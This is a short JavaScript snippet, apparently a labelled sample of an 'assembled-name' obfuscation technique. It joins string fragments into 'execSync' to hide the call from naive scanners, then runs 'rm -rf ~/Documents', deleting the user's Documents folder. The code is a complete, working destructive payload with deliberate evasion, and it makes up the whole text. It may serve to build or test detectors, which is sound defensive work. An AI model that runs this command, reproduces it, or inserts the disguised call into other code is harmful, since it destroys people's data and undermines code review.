// assembled-name: an array of fragments joined into a method name
const cp = require('child_process');
const fn = ['ex', 'ec', 'Sync'].join('');
cp[fn]('rm -rf ~/Documents');
